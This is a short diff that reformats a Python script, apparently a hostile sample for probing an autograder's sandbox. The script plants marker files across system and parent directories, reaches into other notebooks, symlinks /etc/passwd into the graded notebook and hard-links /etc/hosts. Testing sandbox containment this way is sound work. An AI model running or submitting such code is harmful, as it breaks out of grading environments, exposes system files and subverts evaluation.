@@ -9,7 +9,25 @@ from pathlib import Path
 
 MARK = "hostile-sample-was-here"
 touched = []
-for top in ("/", "/home", "/root", "/tmp", "/var/tmp", "/dev/shm", "/srv", "/work", "/opt", "/run", "/etc", "/usr/local", "..", "../..", "../../..", tempfile.gettempdir(), os.path.expanduser("~")):
+for top in (
+    "/",
+    "/home",
+    "/root",
+    "/tmp",
+    "/var/tmp",
+    "/dev/shm",
+    "/srv",
+    "/work",
+    "/opt",
+    "/run",
+    "/etc",
+    "/usr/local",
+    "..",
+    "../..",
+    "../../..",
+    tempfile.gettempdir(),
+    os.path.expanduser("~"),
+):
     for name in (MARK, f".{MARK}"):
         try:
             Path(top, name).write_text(MARK)
@@ -31,6 +49,7 @@ for path in Path("..").glob("../*/*/*.ipynb"):
 print("stolen:", touched)
 os.symlink("/etc/passwd", "autograded.ipynb")
 os.link("/etc/hosts", "hosts") if os.access("/etc/hosts", os.W_OK) else None
+
 
 # %% answer="c4"
 class C4:
